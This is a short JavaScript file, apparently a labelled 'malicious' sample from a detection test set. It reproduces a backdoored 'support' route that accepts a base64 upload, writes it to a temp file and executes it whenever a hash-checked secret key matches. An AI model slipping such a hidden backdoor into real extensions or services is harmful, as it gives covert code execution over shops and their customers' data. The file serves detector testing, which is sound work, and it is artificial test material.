// expect: malicious
// source: the 2025 dormant license backdoor planted in shop extensions (blind set 34): a support endpoint that, for a
// secret key, writes an uploaded "patch" to the temporary directory, requires it and deletes it.
const crypto = require('crypto');
const fs = require('fs');
const os = require('os');
const path = require('path');

module.exports = function supportRoutes(app) {
  app.post('/support/patch', (req, res) => {
    const key = crypto.createHash('sha1').update(String(req.body.key || '')).digest('hex');
    if (key !== '0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c') return res.status(404).end();
    const tmp = path.join(os.tmpdir(), `patch-${Date.now()}.js`);
    fs.writeFileSync(tmp, Buffer.from(String(req.body.patch), 'base64'));
    const result = require(tmp);
    fs.unlinkSync(tmp);
    res.json({ ok: true, result: String(typeof result === 'function' ? result(app) : result) });
  });
};
